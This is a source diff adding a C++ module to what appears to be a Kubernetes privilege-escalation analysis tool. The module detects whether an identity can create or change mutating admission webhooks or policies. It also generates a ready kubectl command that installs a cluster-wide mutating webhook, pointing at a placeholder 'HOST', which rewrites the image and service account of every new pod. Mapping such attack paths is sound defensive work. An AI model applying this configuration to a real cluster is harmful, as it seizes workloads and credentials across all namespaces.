@@ -1,0 +1,72 @@
+#include "graph/escalation/techniques/all.h"
+#include "graph/escalation/text.h"
+
+#include <fmt/format.h>
+
+namespace nsposture::escalation {
+
+namespace {
+
+constexpr Making kWebhooks{kCreateWebhook};
+constexpr Making kPolicies{kCreateMutatingPolicy};
+constexpr Making kPolicyBindings{kCreateMutatingBinding};
+
+bool may_mutate(const Evaluation& at, Proof& proof, std::string& name) {
+  if (at.rights.make_some(proof, kWebhooks, kCluster, name)) return true;
+  for (const auto& webhook : at.world.webhooks()) {
+    name = webhook;
+    if (at.rights.change(proof, kWebhooks, kCluster, webhook)) return true;
+  }
+  name.clear();
+  if (at.rights.make_some(proof, kPolicies, kCluster, name) &&
+      at.rights.make_some(proof, kPolicyBindings, kCluster, name)) {
+    return true;
+  }
+  proof.clear();
+  return false;
+}
+
+// Pods are made all the time, in every namespace; a mutation changes their image and account.
+// Validating webhooks only look on.
+void apply(const Evaluation& at) {
+  Proof proof;
+  std::string name;
+  if (!may_mutate(at, proof, name)) return;
+  at.sink.emit({NodeType::Accounts, kAllNamespaces, 0}, proof, name);
+}
+
+StepText text(const StepView& view) {
+  const bool webhook = !uses(view.edge, kCreateMutatingPolicy);
+  if (!webhook) {
+    const auto json =
+        object_json("admissionregistration.k8s.io/v1alpha1", "MutatingAdmissionPolicy", {},
+                    "take-over", R"(,"spec":{"failurePolicy":"Ignore"})");
+    return {
+        send_object(view, kCreateMutatingPolicy, json),
+        "a mutating policy changes the image and the account of the next pod that anybody makes"};
+  }
+  const auto name = view.edge.note.empty() ? std::string("take-over") : view.edge.note;
+  const auto json = object_json(
+      "admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", {}, name,
+      R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","clientConfig":{"url":"https://HOST/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}]}])");
+  const bool exists = !uses(view.edge, kCreateWebhook);
+  return {
+      exists ? fmt::format("{} apply --server-side --force-conflicts -f - <<< {}", view.kubectl,
+                           shell_word(json))
+             : send_object(view, kCreateWebhook, json),
+      "a mutating webhook changes the image and the account of the next pod that anybody makes"};
+}
+
+}  // namespace
+
+Technique mutate_admission() {
+  return {{"mutate-admission", "Change pods at admission", "T1556", "5.1.12"},
+          Takes::Administration,
+          22,
+          kAtCluster,
+          {kCreateWebhook, kUpdateWebhook, kPatchWebhook, kCreateMutatingPolicy},
+          apply,
+          text};
+}
+
+}  // namespace nsposture::escalation
